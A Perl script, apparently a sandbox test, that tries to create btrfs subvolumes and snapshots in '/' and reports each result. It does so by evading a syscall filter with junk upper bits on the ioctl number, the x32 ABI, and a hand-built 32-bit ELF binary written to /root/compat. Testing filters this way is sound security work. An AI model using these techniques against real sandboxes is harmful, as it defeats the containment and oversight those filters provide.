# Tries to make subvolumes and snapshots in "/" in every way there is, and prints of each how it ended: the kernel's
# error number, or "made". linux/btrfs.h has the calls; their argument is a structure of 4096 bytes.
use strict;
use warnings;

my %calls = (
    SNAP_CREATE      => 0x50009401,
    SUBVOL_CREATE    => 0x5000940e,
    SNAP_CREATE_V2   => 0x50009417,
    SUBVOL_CREATE_V2 => 0x50009418,
);
my $made = 0;

sub argument {
    my ($call, $fd) = @_;
    my $name = 'attack' . $$ . '-' . $made++;
    return pack('q Q Q x32 a4040', $fd, 0, 0, $name) if $call =~ /V2/;
    return pack('q a4088', $fd, $name);
}

# A whole 32-bit program, without a library: opens "/", which becomes file 3, asks, and exits with the error's number.
sub program {
    my ($call) = @_;
    my $base = 0x08048000;
    my $begin = $base + 52 + 32;
    my $code = sub {
        my ($path, $argument) = @_;
        my ($open, $ioctl, $exit, $directory) = (5, 54, 1, 0x10000);
        return join '',
            "\xb8" . pack('V', $open), "\xbb" . pack('V', $path), "\xb9" . pack('V', $directory), "\x31\xd2\xcd\x80",
            "\x89\xc3",
            "\xb8" . pack('V', $ioctl), "\xb9" . pack('V', $calls{$call}), "\xba" . pack('V', $argument), "\xcd\x80",
            "\xf7\xd8\x89\xc3",
            "\xb8" . pack('V', $exit), "\xcd\x80";
    };
    my $path = $begin + length $code->(0, 0);
    my $body = $code->($path, $path + 2) . "/\0" . argument($call, 3);
    my $size = 52 + 32 + length $body;
    return "\x7fELF\x01\x01\x01" . "\0" x 9
        . pack('v v V V V V V v6', 2, 3, 1, $begin, 52, 0, 0, 52, 32, 1, 40, 0, 0)
        . pack('V8', 1, 0, $base, $base, $size, $size, 7, 4096)
        . $body;
}

# Runs a program and returns its exit status: 255 if the kernel does not run it. `system` would give it to a shell then.
sub run {
    my ($path) = @_;
    my $arguments = pack('p Q', $path, 0);
    my $pid = fork // die "$!";
    if ($pid == 0) {
        syscall(59, $path, $arguments, 0);
        require POSIX;
        POSIX::_exit(255);
    }
    waitpid($pid, 0);
    return $? >> 8;
}

sub report {
    my ($how, $call, $ended) = @_;
    print "$how $call $ended\n";
}

sub ended { return $_[0] < 0 ? $! + 0 : 'made' }

opendir(my $root, '/') or die "$!";
my $fd = fileno $root;
for my $call (sort keys %calls) {
    # The kernel looks at 32 bits of the number: those above are to hide it from a filter that looks at all.
    for my $above (0, 1, 0xdeadbeef) {
        my $argument = argument($call, $fd);
        report("64-bit,$above", $call, ended(syscall(16, $fd, $calls{$call} | $above << 32, $argument)));
    }
    my $argument = argument($call, $fd);
    report('x32', $call, ended(syscall(0x40000000 + 514, $fd, $calls{$call}, $argument)));
    open(my $file, '>', '/root/compat') or die "$!";
    binmode $file;
    print $file program($call);
    close $file;
    chmod 0755, '/root/compat';
    my $status = run('/root/compat');
    report('32-bit', $call, $status == 255 ? 'does not run' : $status == 0 ? 'made' : $status);
}
